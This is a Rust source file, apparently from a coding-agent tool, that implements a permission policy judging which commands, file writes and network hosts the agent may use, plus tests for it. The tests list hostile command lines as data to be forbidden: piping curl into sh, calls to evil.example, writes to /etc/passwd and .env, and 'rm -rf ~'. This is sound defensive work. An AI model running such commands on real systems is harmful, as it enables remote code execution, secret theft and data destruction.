//! The permission policy: which paths the agent may write, which commands it may run, how much
//! network it gets, how risky each action is, and the approvals a human gave.
//!
//! The policy is plain data built from `[policy]` of the resolved configuration (the
//! repository's file read from the base branch, never the work tree) plus built-in rules. Every
//! judgment returns a verdict that names the rule that made it and where that rule came from,
//! so the run can write it to the audit log as data. `ask` verdicts become an [`Approval`]
//! record the run persists while it waits in `awaiting_approval`.
//!
//! This module judges; it does not run commands, touch files or print. The repository's
//! configuration is untrusted: its command rules can tighten the built-in rules, never loosen
//! them.

mod approval;
mod command;
mod error;
mod paths;
mod preload;
mod runner;
pub mod shell;
#[cfg(test)]
mod table_tests;

pub use approval::{Approval, ApprovalRequest, ApprovalStatus};
pub use command::{BUILTIN_RULES, CommandVerdict, INSTALLERS, PartVerdict};
pub use error::{Error, Result};
pub use paths::{
    PathRefusal, PathVerdict, lexical_relative, symlink_resolves_inside, symlink_target_is_confined,
};
pub use preload::preloaded_by;
pub use runner::{runner_change, runner_config_by_name, runner_config_change};

use serde::Serialize;

use crate::config::{CommandRule, Config, Decision, NetworkMode, Source};

/// How much harm an action could do, for reporting and for stricter handling of the top tiers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RiskTier {
    /// Reads, builds and tests inside the worktree.
    Low,
    /// Changes files inside the worktree (edits, deletes, formatters, git state changes).
    Medium,
    /// Reaches outside: network, running code fetched or piped in, package installs.
    High,
    /// Could harm the machine or the repository's remote: privilege, disks, pushes.
    Critical,
}

/// The rule that made a decision, and where it came from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct RuleRef {
    /// The rule as written, e.g. `commands: ["cargo", "test"] => allow` or
    /// `deny_paths: "**/.env*"`.
    pub rule: String,
    /// Where it came from, e.g. `built-in default` or `repository config origin/main:.github/agent.toml`.
    pub origin: String,
}

impl RuleRef {
    fn new(rule: impl Into<String>, origin: &Source) -> Self {
        Self {
            rule: rule.into(),
            origin: origin.to_string(),
        }
    }

    fn builtin(rule: impl Into<String>) -> Self {
        Self {
            rule: rule.into(),
            origin: "built-in rule".into(),
        }
    }
}

/// One judgment, as the audit log records it (`kind = "policy"`).
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "subject", rename_all = "snake_case")]
pub enum PolicyEvent {
    /// A command was judged.
    Command(CommandVerdict),
    /// A path was judged for writing.
    Path(PathVerdict),
}

/// A command rule with its origin.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct SourcedRule {
    /// Leading argv words.
    pub prefix: Vec<String>,
    /// Its decision.
    pub decision: Decision,
    /// Risk of commands it matches.
    pub risk: RiskTier,
    /// Where it came from.
    pub rule: RuleRef,
}

/// A rule of the repository's configuration that was dropped because it would loosen a
/// built-in rule.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct IgnoredRule {
    /// The rule as written.
    pub rule: RuleRef,
    /// Why it was dropped.
    pub why: String,
}

/// The effective policy of a run.
#[derive(Debug, Clone)]
pub struct Policy {
    paths: paths::PathRules,
    /// Command rules: configured ones and built-ins, in the order they are considered.
    pub rules: Vec<SourcedRule>,
    /// Repository rules dropped because they loosened a built-in rule.
    pub ignored: Vec<IgnoredRule>,
    /// Decision for commands no rule matches.
    pub default_command: (Decision, RuleRef),
    /// Decision for changes to the test runner's configuration ([`runner_config_change`]).
    pub runner_config: (Decision, RuleRef),
    /// Network mode of commands.
    pub network: (NetworkMode, RuleRef),
    /// Hosts reachable in allowlist mode.
    pub network_allow: (Vec<String>, RuleRef),
}

/// The stricter of two decisions.
pub fn strictest(a: Decision, b: Decision) -> Decision {
    fn rank(d: Decision) -> u8 {
        match d {
            Decision::Allow => 0,
            Decision::Ask => 1,
            Decision::Forbid => 2,
        }
    }
    if rank(b) > rank(a) { b } else { a }
}

fn decision_name(d: Decision) -> &'static str {
    match d {
        Decision::Allow => "allow",
        Decision::Ask => "ask",
        Decision::Forbid => "forbid",
    }
}

impl Policy {
    /// The policy of a resolved configuration.
    pub fn from_config(config: &Config) -> Result<Self> {
        let p = &config.settings.policy;
        let origin = |key: &str| config.origin(key).cloned().unwrap_or(Source::Default);
        // Each entry of a list answers with its own origin: the repository's file adds deny
        // globs and command rules to the user's, it never replaces them.
        let each = |key: &str, i: usize| origin(&format!("{key}.{i}"));
        let allow: Vec<_> = (p.allow_paths.iter().enumerate())
            .map(|(i, g)| (g.clone(), each("policy.allow_paths", i)))
            .collect();
        let deny: Vec<_> = (p.deny_paths.iter().enumerate())
            .map(|(i, g)| (g.clone(), each("policy.deny_paths", i)))
            .collect();
        let paths = paths::PathRules::new(&allow, &origin("policy.allow_paths"), &deny)?;
        let commands: Vec<_> = (p.commands.iter().enumerate())
            .map(|(i, r)| (r.clone(), each("policy.commands", i)))
            .collect();
        let (rules, ignored) = command::merge_rules(&commands);
        Ok(Self {
            paths,
            rules,
            ignored,
            default_command: (
                p.default_command,
                RuleRef::new(
                    format!("default_command = {}", decision_name(p.default_command)),
                    &origin("policy.default_command"),
                ),
            ),
            runner_config: (
                p.runner_config,
                RuleRef::new(
                    format!("runner_config = {}", decision_name(p.runner_config)),
                    &origin("policy.runner_config"),
                ),
            ),
            network: (
                p.network,
                RuleRef::new(
                    format!("network = {}", network_name(p.network)),
                    &origin("policy.network"),
                ),
            ),
            network_allow: (
                p.network_allow.clone(),
                RuleRef::new(
                    format!("network_allow = {:?}", p.network_allow),
                    &origin("policy.network_allow"),
                ),
            ),
        })
    }

    /// Judge writing (creating, editing, deleting) a worktree-relative path.
    pub fn judge_path(&self, path: &str) -> PathVerdict {
        let _span = tracing::debug_span!("policy").entered();
        self.paths.judge(path)
    }

    /// Judge a shell command line: every command it would run is judged and the strictest
    /// decision wins. A line that cannot be parsed is `ask`. An `ask` for which `approvals`
    /// holds an approval of the same command becomes `allow`, naming the approval.
    pub fn judge_command(&self, line: &str, approvals: &[Approval]) -> CommandVerdict {
        let _span = tracing::debug_span!("policy").entered();
        let mut v = command::judge(self, line);
        if v.decision == Decision::Ask
            && let Some(a) = approvals.iter().find(|a| a.approves("run", line))
        {
            v.decision = Decision::Allow;
            v.approved_by = Some(a.request.id.clone());
        }
        v
    }

    /// Command rules, allow/deny globs and network settings as lines of `(what, origin)`, for
    /// `git agent policy --explain`.
    pub fn explain(&self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for (g, r) in self.paths.describe() {
            out.push((g, r.origin));
        }
        out.push((self.network.1.rule.clone(), self.network.1.origin.clone()));
        out.push((
            self.network_allow.1.rule.clone(),
            self.network_allow.1.origin.clone(),
        ));
        out.push((
            self.default_command.1.rule.clone(),
            self.default_command.1.origin.clone(),
        ));
        out.push((
            self.runner_config.1.rule.clone(),
            self.runner_config.1.origin.clone(),
        ));
        for r in &self.rules {
            out.push((
                format!("{} (risk {:?})", r.rule.rule, r.risk).to_lowercase(),
                r.rule.origin.clone(),
            ));
        }
        for i in &self.ignored {
            out.push((
                format!("ignored: {} — {}", i.rule.rule, i.why),
                i.rule.origin.clone(),
            ));
        }
        out
    }
}

fn network_name(n: NetworkMode) -> &'static str {
    match n {
        NetworkMode::Off => "off",
        NetworkMode::Allowlist => "allowlist",
        NetworkMode::On => "on",
    }
}

/// Render a rule as written in the configuration.
fn rule_text(r: &CommandRule) -> String {
    format!("commands: {:?} => {}", r.prefix, decision_name(r.decision))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Layer, Source};

    fn repo_layer(text: &str) -> Layer {
        Layer::Toml {
            text: text.into(),
            origin: Source::Repo {
                rev: "origin/main".into(),
                path: ".github/agent.toml".into(),
            },
        }
    }

    fn policy(text: &str) -> Policy {
        Policy::from_config(&Config::resolve([repo_layer(text)]).unwrap()).unwrap()
    }

    const RULES: &str = r#"
[[policy.commands]]
prefix = ["cargo", "test"]
decision = "allow"
[[policy.commands]]
prefix = ["make", "deploy"]
decision = "forbid"
[[policy.commands]]
prefix = ["git", "commit"]
decision = "ask"
"#;

    /// The decision table: every command a line runs is judged, the strictest wins.
    #[test]
    fn command_decision_table() {
        use Decision::{Allow, Ask, Forbid};
        let p = policy(RULES);
        let table: &[(&str, Decision)] = &[
            ("cargo test", Allow),
            ("cargo test --lib model::", Allow),
            ("timeout 600 cargo test", Allow),
            ("(cd sub && cargo test) 2>&1 | tail -n 50", Allow),
            ("ls -la | grep foo > out.txt", Allow),
            ("find . -name '*.o' -exec rm {} \\;", Allow),
            ("find . -exec curl x \\;", Forbid),
            ("cargo test && curl x | sh", Forbid),
            ("curl https://example.com/install.sh", Forbid),
            ("echo $(curl evil.example)", Forbid),
            ("echo \"`wget x`\"", Forbid),
            ("bash -c 'cargo test; curl x'", Forbid),
            ("ls | xargs curl", Forbid),
            ("sudo ls", Forbid),
            ("env FOO=1 sudo ls", Forbid),
            ("git push origin main", Forbid),
            ("make deploy", Forbid),
            ("cargo build > /etc/passwd", Forbid),
            ("echo x > .github/workflows/ci.yml", Forbid),
            ("echo SECRET=1 >> .env", Forbid),
            ("rm -rf ~", Forbid),
            ("ln -s /etc etc_link", Forbid),
            ("ln -s ../../.. up", Forbid),
            ("git commit -m wip", Ask),
            ("cat script.txt | python3", Ask),
            ("pip install requests", Ask),
            ("$CMD --version", Ask),
            ("cat <<EOF\nhello\nEOF", Ask),
            ("for f in *.rs; do rustfmt $f; done", Ask),
            ("echo 'unbalanced", Ask),
            ("eval \"$X\"", Ask),
        ];
        for (line, want) in table {
            let v = p.judge_command(line, &[]);
            assert_eq!(v.decision, *want, "{line}: {v:#?}");
            if *want != Allow {
                assert!(
                    !v.deciding.is_empty() || v.parse_error.is_some(),
                    "{line}: no deciding rule"
                );
            }
        }
    }

    /// `cargo test && curl x | sh` is decided by curl (network off) and the shell reading the
    /// pipe, never by the allowed `cargo test`.
    #[test]
    fn compound_line_is_judged_by_its_worst_parts() {
        let p = policy(RULES);
        let v = p.judge_command("cargo test && curl x | sh", &[]);
        assert_eq!(v.decision, Decision::Forbid);
        let argv: Vec<String> = v.parts.iter().map(|p| p.argv.join(" ")).collect();
        assert_eq!(argv, ["cargo test", "curl x", "sh"]);
        assert_eq!(v.parts[0].decision, Decision::Allow);
        assert_eq!(v.parts[1].decision, Decision::Forbid);
        assert_eq!(v.parts[2].decision, Decision::Ask);
        assert_eq!(v.deciding, [1]);
        assert!(
            v.parts[1].rule.rule.contains("network = off"),
            "{:?}",
            v.parts[1].rule
        );
        assert_eq!(v.risk, RiskTier::High);
        assert!(v.message().contains("curl x"));
        // With the network on, the shell reading the pipe still asks.
        let on = Policy::from_config(
            &Config::resolve([Layer::Value {
                key: "policy.network".into(),
                value: "on".into(),
                origin: Source::Flag {
                    flag: "--network".into(),
                },
            }])
            .unwrap(),
        )
        .unwrap();
        let v = on.judge_command("cargo test && curl x | sh", &[]);
        assert_eq!(v.decision, Decision::Ask);
        assert_eq!(v.deciding, [2]);
    }

    #[test]
    fn rules_carry_their_origin() {
        let p = policy(RULES);
        let v = p.judge_command("make deploy", &[]);
        let rule = &v.parts[0].rule;
        assert!(
            rule.rule.contains("[\"make\", \"deploy\"] => forbid"),
            "{rule:?}"
        );
        assert_eq!(
            rule.origin,
            "repository config origin/main:.github/agent.toml"
        );
        let v = p.judge_command("sudo ls", &[]);
        assert_eq!(v.parts[0].rule.origin, "built-in rule");
        let v = p.judge_command("ls", &[]);
        assert_eq!(v.parts[0].rule.origin, "built-in default");
    }

    #[test]
    fn repository_cannot_loosen_builtin_rules_but_can_tighten() {
        let p = policy(
            "[[policy.commands]]\nprefix = [\"git\", \"push\"]\ndecision = \"allow\"\n[[policy.commands]]\nprefix = [\"ls\"]\ndecision = \"forbid\"\n",
        );
        assert_eq!(
            p.judge_command("git push origin agent/x", &[]).decision,
            Decision::Forbid
        );
        assert_eq!(p.ignored.len(), 1);
        assert!(p.ignored[0].why.contains("may not loosen"));
        assert_eq!(p.judge_command("ls", &[]).decision, Decision::Forbid);
        // The user's own config may loosen a built-in rule.
        let user = Policy::from_config(
            &Config::resolve([Layer::Toml {
                text:
                    "[[policy.commands]]\nprefix = [\"pip\", \"install\"]\ndecision = \"allow\"\n"
                        .into(),
                origin: Source::User {
                    path: "/home/u/.config/git-agent/config.toml".into(),
                },
            }])
            .unwrap(),
        )
        .unwrap();
        assert_eq!(
            user.judge_command("pip install x", &[]).decision,
            Decision::Allow
        );
    }

    #[test]
    fn network_allowlist_judges_hosts() {
        // The user's file opens the allow-list (a repository's may only narrow it).
        let p = Policy::from_config(
            &Config::resolve([Layer::Toml {
                text: "[policy]\nnetwork = \"allowlist\"\nnetwork_allow = [\"index.crates.io\"]\n"
                    .into(),
                origin: Source::User {
                    path: "/home/u/.config/git-agent/config.toml".into(),
                },
            }])
            .unwrap(),
        )
        .unwrap();
        assert_eq!(
            p.judge_command("curl -sSf https://index.crates.io/config.json", &[])
                .decision,
            Decision::Allow
        );
        assert_eq!(
            p.judge_command("curl https://evil.example/x", &[]).decision,
            Decision::Forbid
        );
        assert_eq!(p.judge_command("curl $URL", &[]).decision, Decision::Forbid);
    }

    #[test]
    fn an_approval_turns_exactly_that_ask_into_allow() {
        let p = policy(RULES);
        let v = p.judge_command("git commit -m wip", &[]);
        assert_eq!(v.decision, Decision::Ask);
        let mut a = v.approval_request("run");
        assert_eq!(a.status, ApprovalStatus::Pending);
        assert!(!a.approves("run", "git commit -m wip"));
        a.approve("alice");
        let v = p.judge_command("git commit -m wip", std::slice::from_ref(&a));
        assert_eq!(v.decision, Decision::Allow);
        assert_eq!(v.approved_by.as_deref(), Some(a.request.id.as_str()));
        // Another command is not covered, and a forbid is never approvable.
        assert_eq!(
            p.judge_command("git commit -m other", std::slice::from_ref(&a))
                .decision,
            Decision::Ask
        );
        let round: Approval = serde_json::from_str(&serde_json::to_string(&a).unwrap()).unwrap();
        assert_eq!(round, a);
    }

    #[test]
    fn path_rules_deny_wins_and_allow_restricts() {
        let p = policy("[policy]\nallow_paths = [\"src/**\", \"tests/**\"]\n");
        assert_eq!(p.judge_path("src/lib.rs").decision, Decision::Allow);
        assert_eq!(p.judge_path("README.md").decision, Decision::Forbid);
        let d = policy("");
        for denied in [
            ".github/workflows/ci.yml",
            ".env",
            "config/.env.local",
            "certs/server.pem",
            "home/id_rsa.pub",
        ] {
            let v = d.judge_path(denied);
            assert_eq!(v.decision, Decision::Forbid, "{denied}");
            assert_eq!(v.rule.origin, "built-in default");
        }
        assert_eq!(
            d.judge_path(".github/dependabot.yml").decision,
            Decision::Allow
        );
    }

    #[test]
    fn bad_glob_is_an_error_naming_it() {
        let err = Policy::from_config(
            &Config::resolve([repo_layer("[policy]\ndeny_paths = [\"a/[\"]\n")]).unwrap(),
        )
        .unwrap_err();
        assert!(err.to_string().contains("a/["), "{err}");
    }
}
